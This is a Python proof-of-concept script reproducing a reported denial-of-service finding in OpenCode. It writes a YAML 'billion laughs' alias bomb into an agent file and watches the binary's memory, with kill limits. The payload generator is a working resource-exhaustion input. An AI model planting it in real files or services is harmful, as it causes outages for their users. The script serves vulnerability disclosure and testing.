"""Finding (new): OpenCode's agent loader expands YAML aliases without a bound. An agent
file whose front matter holds the classic alias bomb (9 levels of 9 references, under 1 KB)
makes `opencode debug agent` grow without answering; through `opencode serve`, `GET /agent`
for that directory did not answer within 45-60 s in the capconf run (case
def.yaml.billion-laughs). capconf's DEF-03 refuses aliases; any bound would do.

Direct reproduction, no capconf: the real binary in a private HOME. The process is watched
and killed (process group) once its resident memory passes 2 GiB or after 60 s, so the
machine is never at risk. Exit 0 = reproduced.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from _private_env import find_binary, private_env

LIMIT_BYTES = 2 * 1024**3
LIMIT_SECONDS = 60.0


def bomb() -> str:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        lines.append(f"{cur}: &{cur} [{','.join([f'*{prev}'] * 9)}]")
    return "---\n" + "\n".join(lines) + "\ndescription: bomb\nmode: subagent\n---\nx\n"


def rss(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


def main() -> int:
    binary = find_binary()
    with tempfile.TemporaryDirectory() as tmp:
        home, proj = Path(tmp, "home"), Path(tmp, "proj")
        (proj / ".opencode" / "agent").mkdir(parents=True)
        home.mkdir()
        (proj / ".opencode" / "agent" / "bomb.md").write_text(bomb())
        env = private_env(home)
        proc = subprocess.Popen([str(binary), "debug", "agent", "bomb", "--pure"], cwd=proj,
                                env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                start_new_session=True)
        start, peak, verdict = time.monotonic(), 0, "answered"
        while proc.poll() is None:
            peak = max(peak, rss(proc.pid))
            if peak > LIMIT_BYTES:
                verdict = "memory"
                break
            if time.monotonic() - start > LIMIT_SECONDS:
                verdict = "time"
                break
            time.sleep(0.25)
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        took = time.monotonic() - start
        print(f"verdict={verdict} after {took:.1f} s, peak RSS {peak / 1024**2:.0f} MiB, "
              f"exit={proc.returncode}")
        if verdict == "memory" or (verdict == "time" and peak > 512 * 1024**2):
            print("REPRODUCED: loading an agent file with a YAML alias bomb does not end")
            return 0
        print("not reproduced")
        return 1


if __name__ == "__main__":
    sys.exit(main())
